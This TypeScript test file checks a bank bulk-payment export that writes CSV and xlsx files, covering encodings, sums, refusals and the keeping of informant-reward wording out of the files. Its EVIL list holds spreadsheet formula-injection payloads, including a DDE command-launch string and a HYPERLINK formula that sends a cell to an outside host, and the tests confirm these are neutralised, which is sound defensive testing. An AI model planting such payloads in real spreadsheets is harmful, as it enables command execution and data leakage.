import { createHash } from 'node:crypto'
import fc from 'fast-check'
import JSZip from 'jszip'
import Papa from 'papaparse'
import { describe, expect, test } from 'vitest'
import { bankFaults, bankNotices } from '../../../../web/office/src/bank-files/bank-faults.ts'
import { bankFile, type BankFile, type BankFileChoice } from '../../../../web/office/src/bank-files/bank-file.ts'
import type { BankLine } from '../../../../web/office/src/bank-files/bank-line.ts'
import { isOtherBank, placeOf } from '../../../../web/office/src/bank-files/bank-names.ts'
import { PROFILES } from '../../../../web/office/src/bank-files/profiles.ts'
import { choice, made, payer } from './made-lines.ts'

const FORMATS = ['xlsx', 'csv-gb18030', 'csv-utf8'] as const

async function fileOf(lines: readonly BankLine[], more: Partial<BankFileChoice> = {}): Promise<BankFile> {
  const answer = await bankFile(lines, choice(more))
  if (answer.is === 'refused') throw new Error(JSON.stringify(answer.faults))
  return answer.file
}
const bytesOf = async ({ blob }: BankFile): Promise<Uint8Array> => new Uint8Array(await blob.arrayBuffer())

/** The cells of a CSV file as a parser reads them, which knows nothing of how it was made. */
async function csvCells(file: BankFile, encoding: 'gb18030' | 'utf-8'): Promise<string[][]> {
  const text = new TextDecoder(encoding, { fatal: true }).decode(await bytesOf(file))
  return Papa.parse<string[]>(text, { skipEmptyLines: true }).data
}

/** The XML of the one sheet, and its cells in rows: how each is typed, and what stands in it. */
async function sheetOf(
  file: BankFile,
): Promise<{ xml: string; styles: string; rows: { type: string; value: string; style: number }[][] }> {
  const zip = await JSZip.loadAsync(await bytesOf(file))
  const part = async (name: string): Promise<string> => (await zip.file(name)?.async('string')) ?? ''
  const [xml, shared, styles] = await Promise.all([
    part('xl/worksheets/sheet1.xml'),
    part('xl/sharedStrings.xml'),
    part('xl/styles.xml'),
  ])
  const strings = [...shared.matchAll(/<si>.*?<t[^>]*>(.*?)<\/t>.*?<\/si>/gs)].map(([, text = '']) => plain(text))
  const rows = [...xml.matchAll(/<row [^>]*>(.*?)<\/row>/gs)].map(([, row = '']) =>
    [...row.matchAll(/<c ([^>]*?)(?:\/>|>(.*?)<\/c>)/gs)].map(([, attributes = '', inside = '']) => {
      const type = /t="(\w+)"/.exec(attributes)?.[1] ?? 'n'
      const raw = /<(?:v|t)[^>]*>(.*?)<\/(?:v|t)>/s.exec(inside)?.[1] ?? ''
      const value = type === 's' ? (strings[Number(raw)] ?? '') : plain(raw)
      return { type, value, style: Number(/s="(\d+)"/.exec(attributes)?.[1] ?? 0) }
    }),
  )
  return { xml, styles, rows }
}
const plain = (text: string): string =>
  text
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;|&#39;/g, "'")
    .replace(/&amp;/g, '&')

const two = [
  made(),
  made({ name: '欧阳 娜娜', fen: 33_35n, bank: '海南农信三亚河西支行', account: '46001002036051234567' }, 2),
]

describe('a file for the bank', () => {
  test('has the heads of the profile, a line a payment, and count, sum and 大写 under them', async () => {
    const cells = await csvCells(await fileOf(two, { format: 'csv-gb18030' }), 'gb18030')
    expect(cells).toEqual([
      [
        '序号',
        '收款人户名',
        '收款人账号',
        '收款行名称',
        '联行号',
        '省',
        '市',
        '跨行标志',
        '金额',
        '用途',
        '业务编号',
        '备注',
      ],
      [
        '1',
        '吴清源',
        '\t6222021202041701419',
        '中国工商银行三亚分行营业部',
        '',
        '海南省',
        '三亚市',
        '否',
        '20000.00',
        '奖励金',
        'JL00000000000001',
        '',
      ],
      [
        '2',
        '欧阳 娜娜',
        '\t46001002036051234567',
        '海南农信三亚河西支行',
        '',
        '海南省',
        '三亚市',
        '是',
        '33.35',
        '奖励金',
        'JL00000000000002',
        '',
      ],
      ['合计', '2笔', '', '', '', '', '', '', '20033.35', '人民币贰万零叁拾叁元叁角伍分', '', ''],
    ])
  })

  test('says the same in every format', async () => {
    const gb = await csvCells(await fileOf(two, { format: 'csv-gb18030' }), 'gb18030')
    const utf = await csvCells(await fileOf(two, { format: 'csv-utf8' }), 'utf-8')
    const { rows } = await sheetOf(await fileOf(two))
    expect(utf).toEqual(gb)
    const said = gb.map((row) => row.map((cell) => cell.trim()).filter((cell) => cell !== ''))
    const inSheet = rows.map((row) => row.map(({ type, value }) => (type === 'n' ? Number(value).toFixed(2) : value)))
    expect(inSheet.map((row) => row.filter((cell) => cell !== '' && cell !== '0.00'))).toEqual(said)
  })

  test('in a workbook only sums are numbers; everything else is a text, accounts to the last digit', async () => {
    const { rows, styles } = await sheetOf(await fileOf(two))
    for (const row of rows.slice(1))
      for (const { type, value } of row)
        expect(type === 'n' && value !== '' ? value : '').toMatch(/^$|^(20000|33\.35|20033\.35)$/)
    expect(rows[2]?.find(({ value }) => value === '46001002036051234567')?.type).toBe('s')
    // 49 is the built-in format of texts; without it an edited cell becomes a float.
    expect(styles).toMatch(/numFmtId="49"|formatCode="@"/)
  })

  test('CSV ends its lines as banks expect, and only the UTF-8 one begins with a mark', async () => {
    const gb = await bytesOf(await fileOf(two, { format: 'csv-gb18030' }))
    const utf = await bytesOf(await fileOf(two, { format: 'csv-utf8' }))
    expect(utf.slice(0, 3)).toEqual(Uint8Array.of(0xef, 0xbb, 0xbf))
    // 序 in GB18030.
    expect(gb.slice(0, 2)).toEqual(Uint8Array.of(0xd0, 0xf2))
    for (const bytes of [gb, utf])
      expect(new TextDecoder('latin1').decode(bytes)).toMatch(/^[^\r\n]+(\r\n[^\r\n]+)*\r\n$/)
  })

  test('a name with a character that only GB18030 has, and one of four bytes, come back as they were', async () => {
    const lines = [made({ name: '㛃䶮𠮷' }), made({ name: '\u{E863}某', account: '12345678' }, 2)]
    const cells = await csvCells(await fileOf(lines, { format: 'csv-gb18030' }), 'gb18030')
    expect(cells[1]?.[1]).toBe('㛃䶮𠮷')
    expect([...(cells[2]?.[1] ?? '')]).toHaveLength(2)
  })

  test('its name says day, batch, count and sum; its digest is that of its bytes', async () => {
    for (const format of FORMATS) {
      const file = await fileOf(two, { format })
      expect(file.name).toBe(`代发_20261125_FK-2026-0003_2笔_20033.35.${format === 'xlsx' ? 'xlsx' : 'csv'}`)
      expect(file.digestHex).toBe(
        createHash('sha256')
          .update(await bytesOf(file))
          .digest('hex'),
      )
      expect([file.count, file.fen]).toEqual([2, 20_033_35n])
    }
  })

  test('sums have exactly the fen that are owed, from one fen to the last that fits', async () => {
    const fen = fc.bigInt({ min: 1n, max: 10n ** 15n - 1n })
    await fc.assert(
      fc.asyncProperty(fen, async (owed) => {
        const yuan = `${owed / 100n}.${String(owed % 100n).padStart(2, '0')}`
        const cells = await csvCells(
          await fileOf([made({ fen: owed })], { format: 'csv-utf8', hasTotals: false }),
          'utf-8',
        )
        expect(cells[1]?.[8]).toBe(yuan)
        const { rows } = await sheetOf(await fileOf([made({ fen: owed })], { hasTotals: false }))
        const written = rows[1]?.find(({ type, value }) => type === 'n' && value !== '')?.value ?? ''
        const [whole = '', fraction = ''] = written.split('.')
        expect(`${whole}.${fraction.padEnd(2, '0')}`).toBe(yuan)
      }),
      { numRuns: 40 },
    )
  })
})

/** What somebody may write as their name or bank, to be run by the cashier's or the bank's spreadsheet. */
const EVIL = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com?x="&C2,"张三")',
  '+86 138 0013 8000',
  '-2+3+cmd|1',
  '@SUM(1+9)*cmd|1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '　=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1+1',
  '﹢1',
  '\u22121',
  '\u200B=1+1',
  '\u202E=1+1',
  "'=1+1",
  '\uFEFF=1+1',
  '\0=1+1',
]

describe('what somebody wrote as a name or bank runs in no spreadsheet', () => {
  const lines = EVIL.flatMap((evil, place) => [
    made({ name: evil, account: String(10_000_000 + place) }, place * 2 + 1),
    made({ bank: evil, account: String(20_000_000 + place) }, place * 2 + 2),
  ])

  test('a workbook has no formula, link or outside data, and every such cell is a text', async () => {
    const file = await fileOf(lines)
    const { xml, rows } = await sheetOf(file)
    expect(xml).not.toMatch(/<f[ >/]|<hyperlink|t="(str|e|b)"/)
    const zip = await JSZip.loadAsync(await bytesOf(file))
    expect(Object.keys(zip.files).join('\n')).not.toMatch(/external|connections|calcChain|vba/i)
    for (const { type, value } of rows.flat())
      if (type === 's') expect(value).not.toMatch(/^\s*[=+\-@＝＋－＠﹦﹢\u2212]/)
  })

  test.each(FORMATS.slice(1))('no cell of %s begins a formula, whichever sign sets cells apart', async (format) => {
    const encoding = format === 'csv-utf8' ? 'utf-8' : 'gb18030'
    const text = new TextDecoder(encoding).decode(await bytesOf(await fileOf(lines, { format })))
    for (const delimiter of [',', ';', '\t', '|'])
      for (const cell of Papa.parse<string[]>(text, { delimiter }).data.flat())
        expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠﹦﹢\u2212]/)
  })

  test('neither does any text at all', async () => {
    const sign = fc.constantFrom(...'=+-@\t\r\n",;|\'&#<> 张a1＝＠')
    const text = fc.string({ unit: sign, minLength: 1, maxLength: 12 }).filter((each) => each.trim() !== '')
    await fc.assert(
      fc.asyncProperty(text, text, async (name, bank) => {
        const answer = await bankFile([made({ name, bank })], choice({ format: 'csv-utf8' }))
        if (answer.is === 'refused') return
        const csv = await answer.file.blob.text()
        for (const delimiter of [',', ';', '\t', '|'])
          for (const cell of Papa.parse<string[]>(csv, { delimiter }).data.flat())
            expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＠]/)
        expect(Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.map((row) => row.length)).toEqual([12, 12, 12])
      }),
      { numRuns: 300 },
    )
  })

  test('the cashier is told which lines were written otherwise', () => {
    expect(
      bankNotices([
        made({ name: '=1+1' }),
        made({ bank: '工行&建行', account: '12345678' }, 2),
        made({ account: '12345678' }, 3),
      ]),
    ).toEqual([
      { is: 'formula', line: 1, field: 'name' },
      { is: 'changed', line: 2, field: 'bank' },
      { is: 'same-account', line: 3, as: 2 },
    ])
    expect(bankNotices(two)).toEqual([])
  })

  test('signs that banks refuse are written in full width', async () => {
    const cells = await csvCells(await fileOf([made({ name: 'A&B #1 "甲"' })], { format: 'csv-utf8' }), 'utf-8')
    expect(cells[1]?.[1]).toBe('A＆B ＃1 ＂甲＂')
  })
})

describe('what the bank and the statement say of the money', () => {
  const SECRET = /举报|线索|毒|禁|案|警|打击|缉|tip|drug|case|award|JL-|DJ-|AJ-/i

  test.each(PROFILES.map((profile) => [profile.id, profile] as const))(
    'by profile %s it is a reward or labour, and nothing else is said',
    async (_, profile) => {
      for (const purpose of ['reward', 'labour'] as const)
        for (const hasTotals of [true, false]) {
          const own = { profile, purpose, hasTotals, payer: { ...payer, name: '三亚市某局' } }
          const file = await fileOf(two, { ...own, format: 'csv-utf8' })
          const { rows } = await sheetOf(await fileOf(two, own))
          const said = [file.name, await file.blob.text(), ...rows.flat().map(({ value }) => value)].join('\n')
          expect(said).not.toMatch(SECRET)
          if (profile.columns.some(({ of }) => of === 'purpose'))
            expect(said).toContain(purpose === 'reward' ? '奖励金' : '劳务')
          expect(said).toContain('JL00000000000002')
        }
    },
  )

  test('a workbook says neither who made it nor where', async () => {
    const zip = await JSZip.loadAsync(await bytesOf(await fileOf(two)))
    const core = (await zip.file('docProps/core.xml')?.async('string')) ?? ''
    expect(core).not.toMatch(/<dc:(title|subject|description)>[^<]/)
  })
})

describe('no file is made', () => {
  test.each<[string, readonly BankLine[], unknown]>([
    ['of nothing', [], { is: 'empty' }],
    [
      'of more lines than a bank takes',
      Array.from({ length: 5001 }, (_, place) => made({}, place + 1)),
      { is: 'too-many', count: 5001, most: 5000 },
    ],
    ['without a name', [made({ name: ' \u200B' })], { is: 'name', line: 1, most: 60 }],
    ['of a name that no cell holds', [made({ name: '长'.repeat(61) })], { is: 'name', line: 1, most: 60 }],
    ['without a bank', [made({ bank: '' })], { is: 'bank', line: 1, most: 60 }],
    ['of an account with letters', [made({ account: '62220212O2041701419' })], { is: 'account', line: 1 }],
    [
      'of an account that is not in its normal form',
      [made({ account: '6222 0212 0204 1701 419' })],
      { is: 'account', line: 1 },
    ],
    ['of nothing to pay', [made({ fen: 0n })], { is: 'sum', line: 1 }],
    ['of less than nothing', [made({ fen: -1n })], { is: 'sum', line: 1 }],
    ['of a sum that no spreadsheet holds', [made({ fen: 10n ** 15n })], { is: 'sum', line: 1 }],
    ['without a number to match the answer by', [made({ reference: '' })], { is: 'reference', line: 1 }],
    ['with the number of an award', [made({ reference: 'JL-2026-0001' })], { is: 'reference', line: 1 }],
    ['with one payment twice', [made(), made()], { is: 'twice', line: 2, reference: 'JL00000000000001' }],
  ])('%s', async (_, lines, fault) => {
    expect(await bankFile(lines, choice())).toEqual({ is: 'refused', faults: [fault] })
  })

  test('without the account that pays, where the bank wants it in every line', () => {
    expect(bankFaults(two, PROFILES[1], null)).toEqual([{ is: 'payer' }])
    expect(bankFaults(two, PROFILES[1], { ...payer, account: '2201 0000' })).toEqual([{ is: 'payer' }])
    expect(bankFaults(two, PROFILES[1], payer)).toEqual([])
    expect(bankFaults(two, PROFILES[0], null)).toEqual([])
  })

  test('5,000 lines are one', async () => {
    const lines = Array.from({ length: 5000 }, (_, place) => made({ account: String(10_000_000 + place) }, place + 1))
    expect((await fileOf(lines, { format: 'csv-gb18030' })).count).toBe(5000)
  })
})

test.each([
  ['中国工商银行三亚分行', '工行三亚河东支行', false],
  ['中国工商银行三亚分行', '中国建设银行三亚分行', true],
  ['中国农业银行', '中国农业发展银行', true],
  ['中国银行三亚分行', '中国邮政储蓄银行三亚市分行', true],
  ['中国银行三亚分行', '某村镇银行', null],
  ['', '工行', null],
])('from %j to %j is another bank: %j', (from, to, is) => expect(isOtherBank(from, to)).toBe(is))

test.each([
  ['中国工商银行三亚分行', { province: '海南省', city: '三亚市' }],
  ['海南银行股份有限公司', { province: '海南省', city: '' }],
  ['中国银行广州白云支行', { province: '', city: '' }],
])('%s is in %j', (bank, place) => expect(placeOf(bank)).toEqual(place))
